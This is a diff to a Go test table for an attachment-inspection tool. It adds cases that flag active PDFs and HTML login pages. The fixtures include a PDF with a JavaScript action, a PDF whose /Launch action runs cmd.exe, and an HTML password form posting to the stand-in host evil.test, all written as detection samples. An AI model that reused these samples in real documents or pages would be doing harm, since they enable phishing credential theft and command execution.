@@ -66,6 +66,12 @@ func TestInspect(t *testing.T) {
 		{"doc with VBA", "q3.doc", "application/msword", ole("Root Entry", "Macros", "VBA"), []string{NameMacro}},
 		{"xls with VBA", "q3.xls", "", ole("Root Entry", "_VBA_PROJECT_CUR"), []string{NameMacro}},
 		{"macro media type", "q3", "application/vnd.ms-excel.sheet.macroEnabled.12", nil, []string{NameMacro}},
+		// Active PDF and HTML.
+		{"pdf with js", "form.pdf", "application/pdf", []byte("%PDF-1.7\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >>"), []string{NamePDFActive}},
+		{"pdf launching", "x.pdf", "", []byte("%PDF-1.4\n<< /S /Launch /F (cmd.exe) >>"), []string{NamePDFActive}},
+		{"html login page", "Invoice.html", "text/html", []byte(`<html><form action="https://evil.test/p"><input type="password" name="pw"></form>`), []string{NameHTMLLogin}},
+		{"html login page, no name", "", "", []byte(`<!DOCTYPE html><input type=password>`), []string{NameHTMLLogin}},
+		{"html newsletter", "news.html", "text/html", []byte(`<html><p>Hello</p><form><input type="text" name="q"></form>`), nil},
 		// Archives.
 		{"exe in zip", "invoice.zip", "application/zip", makeZip(t, file{name: "invoice.pdf.exe", data: pe()}),
 			[]string{NameDoubleExtension, NameExecutable}},
